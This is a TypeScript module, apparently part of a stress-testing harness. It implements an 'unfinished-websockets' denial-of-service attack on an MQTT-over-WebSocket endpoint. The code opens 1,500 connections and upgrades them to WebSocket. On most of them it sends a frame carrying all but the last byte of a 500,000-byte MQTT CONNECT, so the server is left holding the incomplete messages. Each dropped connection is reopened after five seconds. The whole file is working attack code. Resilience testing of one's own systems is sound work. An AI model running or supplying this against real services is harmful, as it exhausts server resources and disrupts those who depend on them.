/**
 * WebSockets that begin a CONNECT and never end it.
 */
import { randomBytes } from "node:crypto"
import type { Attack } from "../Attack.ts"
import { openSocket } from "../../DeviceSocket.ts"

const connections = 1500
/** Bytes of the CONNECT that each connection announces; it sends all but the last. */
const length = 500_000

/** Until a connection that has ended is opened again, milliseconds. */
const pause = 5000

/** The head of a masked binary frame; the mask is zero. */
const frameHead = (bytes: number): Buffer => {
  const head = Buffer.alloc(14)
  head[0] = 0x82
  head[1] = 0xff
  head.writeBigUInt64BE(BigInt(bytes), 2)
  return head
}

/** The first bytes of a CONNECT of 500,000 bytes. */
const connectHead = Buffer.from([0x10, 0xa0, 0xc2, 0x1e, 0, 4, 0x4d, 0x51, 0x54, 0x54, 4, 0xc2, 0, 0])

export const unfinishedWebSockets: Attack = {
  name: "unfinished-websockets",
  prepare: async ({ address, cloud, count }) => {
    const connect = Buffer.concat([connectHead, Buffer.alloc(length - connectHead.length - 1, "x")])
    const frame = Buffer.concat([frameHead(length), connect])
    const open = (n: number): void => {
      const socket = openSocket(cloud.http, address(n))
      socket.once("connect", () => {
        count("connections")
        socket.write(
          "GET /mqtt HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: upgrade\r\nupgrade: websocket\r\n" +
            "sec-websocket-version: 13\r\nsec-websocket-protocol: mqtt\r\n" +
            `sec-websocket-key: ${randomBytes(16).toString("base64")}\r\n\r\n`
        )
      })
      socket.once("data", () => {
        if (n % 3 !== 0) socket.write(frame)
      })
      socket.once("close", () => setTimeout(open, pause, n))
    }
    return () => {
      for (let n = 0; n < connections; n++) open(n)
    }
  }
}
